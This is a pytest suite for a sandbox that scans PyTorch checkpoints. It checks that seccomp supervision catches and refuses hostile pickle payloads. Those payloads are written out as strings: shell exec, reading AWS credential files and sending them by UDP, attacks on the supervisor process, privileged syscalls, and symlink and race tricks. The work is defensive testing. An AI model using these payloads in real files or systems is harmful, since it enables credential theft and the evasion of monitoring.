"""Kernel-level monitoring: every technique below is seen by the supervisor through seccomp user
notification, recorded as a ``kernel`` event, refused, and judged in the report, under the
Docker runner and under the bwrap runner.

Payloads are harmless: they only try to create a marker file in a directory the test owns or to
reach a 127.0.0.1 port the test listens on. Each test also proves that nothing reached the host.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import torch

import sandbox
from sandbox._worker import _protocol as P
from sandbox.report import Event, Finding, LoadReport, Severity, Verdict
from tests import checkpoints as ck
from tests.conftest import Listener
from tests.fakes import finding

# Record everything and stop nothing, so that each test sees every attempt its payload makes
# (under the default policy the first refused exec, network, credential or privilege call
# ends the load: see test_default_policy_stops_at_the_first_fatal_call).
AUDIT = sandbox.Policy.audit()

# every test runs under each runner (the same loader filter and supervisor under both)
pytestmark = [pytest.mark.container, pytest.mark.usefixtures("each_runner")]


# -- helpers -------------------------------------------------------------------------------------


@pytest.fixture
def udp_port() -> Iterator[tuple[int, socket.socket]]:
    """A UDP socket on 127.0.0.1 that must stay silent."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 0))
    s.setblocking(False)
    yield s.getsockname()[1], s
    s.close()


def _udp_silent(s: socket.socket) -> bool:
    try:
        s.recvfrom(65536)
    except BlockingIOError:
        return True
    return False


def kernel(report: LoadReport, kind: str | tuple[str, ...]) -> list[Event]:
    kinds = (kind,) if isinstance(kind, str) else kind
    return [e for e in report.events if e.source == "kernel" and e.kind in kinds]


def assert_supported(report: LoadReport, f: Finding) -> None:
    """Every event a finding cites is in the report and comes from the kernel."""
    ids = {e.id: e for e in report.events}
    assert f.events, f"{f.rule} cites no event"
    for i in f.events:
        assert i in ids and ids[i].source == "kernel"


def assert_nothing_reached_host(marker: Path | None = None, listener: Listener | None = None) -> None:
    if marker is not None:
        assert not marker.exists()
    if listener is not None:
        assert listener.connections == 0
        assert not listener.received


# -- (a) os.system -------------------------------------------------------------------------------


def test_os_system_is_an_exec_event_with_argv(tmp_path: Path) -> None:
    # CWE-502 classic: REDUCE of os.system (posix_spawn of /bin/sh -c)
    marker = tmp_path / "marker-system"
    path = ck.save(ck.hostile_checkpoint(ck.Reduce(os.system, f"touch {marker}")), tmp_path / "s.pt")
    proc = subprocess.run(
        [str(Path(sys.executable).parent / "model-sandbox"), "scan", str(path), "--format", "json"],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert proc.returncode == 1, proc.stderr
    report = LoadReport.from_json(proc.stdout)
    assert report.verdict is Verdict.MALICIOUS
    execs = kernel(report, ("execve", "execveat"))
    assert execs and all(e.action == "denied" for e in execs)
    assert any(f"touch {marker}" in e.detail.get("argv", []) for e in execs)
    f = finding(report, "exec-attempt")
    assert f.severity is Severity.CRITICAL and f"touch {marker}" in f.evidence["argv"]
    assert_supported(report, f)
    assert_nothing_reached_host(marker)


# -- (b) subprocess.Popen ------------------------------------------------------------------------


def test_subprocess_popen_is_refused_and_recorded(tmp_path: Path) -> None:
    marker = tmp_path / "marker-popen"
    path = ck.hostile_file(
        tmp_path, f"import subprocess\nsubprocess.Popen(['touch', {str(marker)!r}]).wait()"
    )
    report = sandbox.scan(path, policy=AUDIT)
    assert report.verdict is Verdict.MALICIOUS
    execs = kernel(report, "execve")
    assert execs and all(e.action == "denied" for e in execs)
    assert any(e.detail["argv"] == ["touch", str(marker)] for e in execs)
    assert_supported(report, finding(report, "exec-attempt"))
    # the audit hook saw it too, but only as context
    assert any(e.kind == "subprocess.Popen" and e.source == "self_reported" for e in report.events)
    assert_nothing_reached_host(marker)


# -- (c) builtins.exec of a connecting code string -------------------------------------------------


def test_exec_payload_connect_is_denied_with_address(tmp_path: Path, listener: Listener) -> None:
    path = ck.hostile_file(
        tmp_path, f"import socket\nsocket.create_connection(('127.0.0.1', {listener.port}), timeout=2)"
    )
    report = sandbox.scan(path, policy=AUDIT)
    assert report.verdict is Verdict.MALICIOUS
    conns = kernel(report, "connect")
    assert conns and conns[0].action == "denied"
    assert conns[0].detail["address"] == "127.0.0.1" and conns[0].detail["port"] == listener.port
    f = finding(report, "network-connect")
    assert f.severity is Severity.CRITICAL
    assert f.evidence["event"] == f"connect AF_INET 127.0.0.1:{listener.port} — denied"
    assert f"connect AF_INET 127.0.0.1:{listener.port} — denied" in report.to_text()
    assert_supported(report, f)
    assert_nothing_reached_host(listener=listener)


# -- (d) ctypes straight into libc: no audit event, the kernel still sees it ------------------------


def test_ctypes_libc_connect_and_system_are_seen_by_the_kernel(tmp_path: Path, listener: Listener) -> None:
    marker = tmp_path / "marker-ctypes"
    path = ck.hostile_file(
        tmp_path,
        "import ctypes, socket, struct\n"
        "libc = ctypes.CDLL(None)\n"
        "fd = libc.socket(2, 1, 0)\n"
        f"addr = struct.pack('<HH4s8x', 2, socket.htons({listener.port}), bytes([127, 0, 0, 1]))\n"
        "libc.connect(fd, addr, 16)\n"
        f"libc.system(b'touch {marker}')",
    )
    report = sandbox.scan(path, policy=AUDIT)
    assert report.verdict is Verdict.MALICIOUS
    assert any(
        e.detail.get("port") == listener.port and e.action == "denied" for e in kernel(report, "connect")
    )
    assert any(f"touch {marker}" in e.detail.get("argv", []) for e in kernel(report, "execve"))
    finding(report, "network-connect")
    finding(report, "exec-attempt")
    assert_nothing_reached_host(marker, listener)


# -- (e) credential theft: canary file read + exfiltration by sendto --------------------------------


def test_canary_read_and_sendto_is_an_exfiltration_finding(
    tmp_path: Path, udp_port: tuple[int, socket.socket]
) -> None:
    port, udp = udp_port
    path = ck.hostile_file(
        tmp_path,
        "import os, socket\n"
        "data = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        f"s.sendto(data, ('127.0.0.1', {port}))",
    )
    report = sandbox.scan(path, policy=AUDIT)
    assert report.verdict is Verdict.MALICIOUS
    opened = finding(report, "canary-file-read")
    assert opened.severity is Severity.HIGH
    assert opened.evidence["path"] == f"{P.CANARY_HOME}/.aws/credentials"
    exfil = finding(report, "canary-exfiltration")
    assert exfil.severity is Severity.CRITICAL
    assert {"AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"} <= set(exfil.evidence["canaries"])
    sends = kernel(report, "sendto")
    assert sends and sends[0].action == "denied" and sends[0].detail["port"] == port
    assert_supported(report, exfil)
    assert _udp_silent(udp)


def test_canary_environment_value_in_argv_is_exfiltration(tmp_path: Path) -> None:
    marker = tmp_path / "marker-env"
    path = ck.hostile_file(
        tmp_path, f"import os\nos.system('echo ' + os.environ['AWS_SECRET_ACCESS_KEY'] + ' > {marker}')"
    )
    report = sandbox.scan(path, policy=AUDIT)
    f = finding(report, "canary-exfiltration")
    assert "AWS_SECRET_ACCESS_KEY" in f.evidence["canaries"]
    assert_nothing_reached_host(marker)


# -- (f) a thread that connects later ----------------------------------------------------------------


def test_thread_connecting_after_a_delay_is_seen(tmp_path: Path, listener: Listener) -> None:
    path = ck.hostile_file(
        tmp_path,
        "import threading\n"
        "def later():\n"
        "    import socket, time\n"  # exec'd code: the thread has its own globals
        "    time.sleep(0.3)\n"
        "    try:\n"
        f"        socket.create_connection(('127.0.0.1', {listener.port}), timeout=2)\n"
        "    except OSError:\n"
        "        pass\n"
        "t = threading.Thread(target=later)\n"
        "t.start()\n"
        "t.join()",
    )
    report = sandbox.scan(path, policy=AUDIT)
    conns = [e for e in kernel(report, "connect") if e.detail.get("port") == listener.port]
    assert conns and conns[0].action == "denied" and conns[0].t >= 0.3
    assert report.verdict is Verdict.MALICIOUS
    assert_nothing_reached_host(listener=listener)


# -- (g) going after the supervisor --------------------------------------------------------------------


def test_kill_and_ptrace_of_the_supervisor_fail_and_kills_are_recorded(tmp_path: Path) -> None:
    path = ck.hostile_file(
        tmp_path,
        "import ctypes, os, signal\n"
        "for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT):\n"
        "    try:\n"
        "        os.kill(1, sig)\n"
        "    except OSError:\n"
        "        pass\n"
        "libc = ctypes.CDLL(None)\n"
        "libc.ptrace(16, 1, 0, 0)\n"  # PTRACE_ATTACH
        "libc.kill(-1, 9)\n",
    )
    report = sandbox.scan(path, policy=AUDIT)
    kills = [e for e in kernel(report, "kill") if e.detail.get("target") == 1]
    assert len(kills) == 3 and all(e.action == "denied" for e in kills)
    # ptrace reaches the loader's notifying filter (the container profile lets it through for
    # that reason only): recorded, aimed at the supervisor, refused
    traces = kernel(report, "ptrace")
    assert traces and all(e.action == "denied" and e.detail.get("supervisor") for e in traces)
    f = finding(report, "attack-supervisor")
    assert f.severity is Severity.CRITICAL
    assert_supported(report, f)
    # the supervisor survived: it wrote its status, and the load itself completed
    assert report.error is None and "wall_s" in report.resources and report.tensors > 0


def test_the_supervisors_limits_cannot_be_changed_and_the_attempt_is_recorded(tmp_path: Path) -> None:
    # prlimit64 needs only the same uid (a non-dumpable target does not stop it): a loader that
    # lowered the supervisor's open-files or CPU limit blinded or killed it without any event,
    # and what it did next went unrecorded (the report said only monitor-lost)
    marker = tmp_path / "after-prlimit"
    path = ck.hostile_file(
        tmp_path,
        "import os, resource\n"
        "for res in (resource.RLIMIT_NOFILE, resource.RLIMIT_CPU):\n"
        "    try:\n"
        "        resource.prlimit(1, res, (0, 0))\n"
        "    except OSError:\n"
        "        pass\n"
        "resource.setrlimit(resource.RLIMIT_CORE, (0, 0))\n"  # its own limits: the kernel's business
        f"os.system('touch {marker}')\n",
    )
    report = sandbox.scan(path, policy=AUDIT)
    limits = kernel(report, "prlimit64")
    assert len(limits) == 2 and all(e.action == "denied" and e.detail.get("target") == 1 for e in limits)
    f = finding(report, "attack-supervisor")
    assert f.severity is Severity.CRITICAL
    assert_supported(report, f)
    # the supervisor kept watching: the program the payload ran next is a kernel event too
    assert any(str(marker) in " ".join(e.detail.get("argv", [])) for e in kernel(report, "execve"))
    assert not any(x.rule == "monitor-lost" for x in report.findings)
    assert report.error is None and "wall_s" in report.resources and report.tensors > 0
    assert report.verdict is Verdict.MALICIOUS
    assert_nothing_reached_host(marker)


def test_the_supervisor_cannot_be_reniced_pinned_or_demoted_and_the_attempt_is_recorded(
    tmp_path: Path,
) -> None:
    # setpriority and the sched_set* calls need only the same uid: a loader that reniced the
    # supervisor, pinned it to one core or demoted it to SCHED_IDLE while it spun delayed every
    # answer and sample the supervisor owes, without any event
    attack = (
        "import os\n"
        "cpus = len(os.sched_getaffinity(0))\n"
        "calls = [\n"
        "    lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),\n"
        "    lambda: os.setpriority(os.PRIO_USER, 0, 19),\n"
        "    lambda: os.sched_setaffinity(1, {0}),\n"
        "    lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)),\n"
        "]\n"
        "refused = 0\n"
        "for call in calls:\n"
        "    try:\n"
        "        call()\n"
        "    except OSError:\n"
        "        refused += 1\n"
        "os.setpriority(os.PRIO_PROCESS, 0, 5)\n"  # its own: the kernel's business
        "own = 0\n"  # ... which refuses it a real-time policy or a priority above the supervisor's
        "for call in (lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)),\n"
        "             lambda: os.setpriority(os.PRIO_PROCESS, 0, -5)):\n"
        "    try:\n"
        "        call()\n"
        "    except OSError:\n"
        "        own += 1\n"
        "result = [refused, own, open('/proc/1/stat').read().rsplit(')', 1)[1].split()[16],\n"
        "          len(os.sched_getaffinity(1)) == cpus, os.sched_getscheduler(1)]\n"
    )
    path = ck.save(ck.hostile_checkpoint(ck.code_payload(attack)), tmp_path / "renice.pt")
    got = sandbox.safe_load(path, weights_only=False, policy=ck.observe_policy())
    assert got["payload"] == [4, 2, "0", True, os.SCHED_OTHER]  # refused; PID 1 untouched
    report = sandbox.scan(path, policy=AUDIT)
    calls = kernel(report, ("setpriority", "sched_setaffinity", "sched_setscheduler"))
    assert len(calls) == 4 and all(e.action == "denied" and e.detail.get("supervisor") for e in calls)
    f = finding(report, "attack-supervisor")
    assert f.severity is Severity.CRITICAL
    assert_supported(report, f)
    assert report.verdict is Verdict.MALICIOUS


@pytest.mark.parametrize(
    "call",
    [
        "libc.syscall(425, 8, ctypes.create_string_buffer(120))",  # io_uring_setup
        "libc.syscall(323, 0)",  # userfaultfd
        "libc.unshare(0x10000000)",  # CLONE_NEWUSER
    ],
    ids=["io_uring_setup", "userfaultfd", "unshare"],
)
def test_calls_the_container_refuses_silently_leave_kernel_evidence(tmp_path: Path, call: str) -> None:
    # the container profile refuses these with an errno, which outranks the loader's
    # notification: the supervisor never saw them, and the report had no kernel evidence of
    # the attempt (only the payload's own, forgeable, audit events)
    marker = tmp_path / "after-the-call"
    path = ck.hostile_file(
        tmp_path, f"import ctypes, os\nlibc = ctypes.CDLL(None)\n{call}\nos.system('touch {marker}')\n"
    )
    report = sandbox.scan(path, policy=AUDIT)
    killed = kernel(report, "seccomp_kill")
    assert len(killed) == 1 and killed[0].action == "denied", report.events
    f = finding(report, "privileged-call")
    assert f.severity >= Severity.HIGH
    assert_supported(report, f)
    assert report.verdict is Verdict.MALICIOUS
    assert not kernel(report, "execve")  # nothing ran after the call: the loader is gone
    assert_nothing_reached_host(marker)


def test_a_canary_read_through_a_link_and_dotdot_is_seen(tmp_path: Path) -> None:
    # /tmp/l -> ~/.aws/, then "/tmp/l/../.aws/credentials": the kernel follows the link before
    # the "..", a lexical normal form reads "/tmp/.aws/credentials" (a scratch path). The
    # monitor judged the normal form: the read of the planted credentials went unrecorded and
    # the report said only "created a link" (medium)
    path = ck.hostile_file(
        tmp_path,
        f"import os\nos.symlink('{P.CANARY_HOME}/.aws/', '/tmp/l')\n"
        "open('/tmp/l/../.aws/credentials').read()\n",
    )
    report = sandbox.scan(path, policy=AUDIT)
    opens = [
        e for e in kernel(report, "openat") if e.detail.get("path") == f"{P.CANARY_HOME}/.aws/credentials"
    ]
    assert opens, [e.detail for e in kernel(report, ("openat", "symlink"))]
    f = finding(report, "canary-file-read")
    assert f.severity >= Severity.HIGH
    assert_supported(report, f)


def test_a_canary_read_that_races_the_monitor_is_still_seen_by_the_kernel(tmp_path: Path) -> None:
    """A thread rewrites the path between the monitor's look at it and the kernel's open: a
    call the monitor saw as a file of the image opens the canary file. Only the kernel's own record
    (the supervisor's inotify watch on the planted files) is sure to name it."""
    canary = f"{P.CANARY_HOME}/.aws/credentials"
    code = (
        "import ctypes, os, threading, time\n"
        "buf = ctypes.create_string_buffer(256)\n"  # a quiet file of the image, then the canary
        f"paths = [os.__file__.encode() + b'\\0', {canary.encode() + bytes(1)!r}]\n"
        "ctypes.memmove(buf, paths[0], len(paths[0]))\n"
        "done = []\n"
        "def flip(buf=buf, paths=paths, done=done, move=ctypes.memmove):\n"  # exec's locals
        "    while not done:\n"
        "        for p in paths:\n"
        "            move(buf, p, len(p))\n"
        "threading.Thread(target=flip, daemon=True).start()\n"
        "time.sleep(0.05)\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "for _ in range(20000):\n"
        "    fd = libc.open(buf, 0)\n"
        "    if fd >= 0:\n"
        "        got = os.read(fd, 16)\n"
        "        os.close(fd)\n"
        "        if got.startswith(b'[default]'):\n"
        "            break\n"
        "done.append(1)\n"
    )
    report = sandbox.scan(ck.hostile_file(tmp_path, code), policy=AUDIT)
    seen = [e for e in kernel(report, "inotify") if e.detail.get("path") == canary]
    assert {e.detail.get("event") for e in seen} >= {"open"}, [e.detail for e in kernel(report, "inotify")]
    f = finding(report, "canary-file-read")
    assert f.severity >= Severity.HIGH
    assert_supported(report, f)


def test_a_write_to_the_input_through_a_link_to_proc_self_fd_is_refused(tmp_path: Path) -> None:
    # /tmp/p -> /proc/self/fd: "/tmp/p/1000" is the input's descriptor, reopened. The monitor
    # resolved the link in its own process (/proc/self = PID 1), kept the /tmp name and let the
    # write-open through as a scratch write: only the file's permissions stood between the
    # payload and the host's file (under bwrap, a file of the calling user is the sandbox's)
    code = (
        "import os\n"
        "os.symlink('/proc/self/fd', '/tmp/p')\n"
        "try:\n"
        f"    with open('/tmp/p/{P.INPUT_FD}', 'r+b') as f:\n"
        "        f.seek(0, 2)\n"
        "        result = f.write(b'x')\n"
        "except OSError as exc:\n"
        "    result = exc.errno\n"
    )
    path = ck.save(ck.hostile_checkpoint(ck.code_payload(code)), tmp_path / "input-write.pt")
    data = path.read_bytes()
    report = sandbox.scan(path, policy=AUDIT)
    opens = [e for e in kernel(report, "openat") if e.detail.get("path") == P.INPUT_ALIAS]
    assert opens and all(e.action == "denied" for e in opens), [e.detail for e in kernel(report, "openat")]
    f = finding(report, "file-write-outside")
    assert f.severity >= Severity.HIGH
    assert_supported(report, f)
    obj = sandbox.safe_load(path, weights_only=False, policy=ck.observe_policy())
    assert obj["payload"] == 1  # EPERM: the monitor's answer
    assert path.read_bytes() == data


# -- (h) an event flood ---------------------------------------------------------------------------------


def test_event_flood_is_truncated_with_exact_counts(tmp_path: Path) -> None:
    path = ck.hostile_file(
        tmp_path,
        "import socket\nfor i in range(20000):\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()",
    )
    report = sandbox.scan(path, policy=AUDIT)
    sockets = kernel(report, "socket")
    assert 0 < len(sockets) <= 5000
    trunc = finding(report, "event-log-truncated")
    assert trunc.evidence["counts"]["kernel:socket:allowed"] == 20000
    f = finding(report, "network-socket")
    assert f.severity is Severity.MEDIUM and f.evidence["occurrences"] == len(sockets)
    assert len(f.events) <= 50
    # the kernel's view alone is suspicious; the loader's audit hook saw the payload's source
    # compiled (before it ran), and the exec global makes the file malicious statically too
    kernel_findings = [
        x for x in report.findings if x.evidence.get("source") not in ("static", "self_reported")
    ]
    assert max(x.severity for x in kernel_findings) is Severity.MEDIUM
    assert finding(report, "code-execution").evidence["source"] == "self_reported"
    assert report.verdict is Verdict.MALICIOUS


# -- (i) benign ------------------------------------------------------------------------------------------


def test_benign_state_dict_is_clean_with_no_findings(tmp_path: Path) -> None:
    path = tmp_path / "benign.pt"
    torch.save(ck.state_dict(), path)
    report = sandbox.scan(path, policy=AUDIT)
    assert report.verdict is Verdict.CLEAN
    assert report.findings == []
    assert not [e for e in report.events if e.source == "kernel" and e.action == "denied"]
    # the supervisor's samples of the loader (a plain state dict takes the layout hand-off,
    # which needs no torch: a small interpreter)
    res = report.resources
    assert res["cpu_s"] > 0 and res["rss_peak_bytes"] > 5 * 2**20
    assert res["threads_peak"] >= 1 and res["children_peak"] == 0 and res["samples"] >= 1
    assert "sampling_error" not in res
    # the same report survives its own JSON round trip
    assert LoadReport.from_json(report.to_json()).verdict is Verdict.CLEAN
    json.loads(report.to_json())


# -- policies ------------------------------------------------------------------------------------


def test_default_policy_stops_at_the_first_fatal_call(tmp_path: Path, listener: Listener) -> None:
    marker = tmp_path / "marker-fatal"
    path = ck.hostile_file(
        tmp_path,
        f"import os, socket\nos.system('touch {marker}')\n"
        f"socket.create_connection(('127.0.0.1', {listener.port}), timeout=2)",
    )
    stopped = sandbox.scan(path)
    assert stopped.verdict is Verdict.MALICIOUS
    assert kernel(stopped, "execve") and not kernel(stopped, "connect")
    assert stopped.error is not None and "stopped by the policy" in stopped.error["message"]
    assert any("ended the load" in n for n in stopped.notes)
    everything = sandbox.scan(path, policy=AUDIT)  # the audit policy sees the rest too
    assert kernel(everything, "execve") and kernel(everything, "connect")
    assert_nothing_reached_host(marker)
    assert listener.connections == 0


def test_policy_errno_and_severity_overrides(tmp_path: Path) -> None:
    path = ck.save(ck.hostile_checkpoint(ck.code_payload(ck.CONNECT_ERRNO)), tmp_path / "errno.pt")
    policy = ck.policy_from_dict(
        {
            "name": "quiet-sockets",
            "description": "tests: EACCES, sockets are expected",
            "fail_on": "never",
            "static": {"stop_before_sandbox": "never"},
            "events": {
                "fatal": [],
                "errno": "EACCES",
                "severity": {"network-socket": "ignore", "network-connect": "low"},
            },
        }
    )
    import errno

    assert sandbox.safe_load(path, weights_only=False, policy=policy)["payload"] == errno.EACCES
    report = sandbox.scan(path, policy=policy)
    assert not [f for f in report.findings if f.rule == "network-socket"]
    assert finding(report, "network-connect").severity is Severity.LOW
    assert kernel(report, "socket") and kernel(report, "connect")  # the events stay


def test_a_flood_cannot_push_out_the_attack_that_follows(tmp_path: Path, listener: Listener) -> None:
    # 20,000 allowed-but-recorded calls first, then 6,000 refused connects: the log keeps a
    # reserve for refusals, and refusals beyond it still count through the exact totals
    path = ck.hostile_file(
        tmp_path,
        "import socket\n"
        "for i in range(20000):\n"
        "    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()\n"
        "for i in range(6000):\n"
        "    try:\n"
        f"        socket.create_connection(('127.0.0.1', {listener.port}), timeout=1)\n"
        "    except OSError:\n"
        "        pass\n",
    )
    report = sandbox.scan(path, policy=AUDIT)
    assert kernel(report, "connect"), "the refusals were pushed out of the log"
    assert finding(report, "network-connect").severity is Severity.CRITICAL
    dropped = finding(report, "refusals-not-logged")
    assert dropped.severity is Severity.CRITICAL and dropped.evidence["refused"]["connect"] > 0
    kept = len(kernel(report, "connect"))
    assert kept + dropped.evidence["refused"]["connect"] == 6000
    assert listener.connections == 0
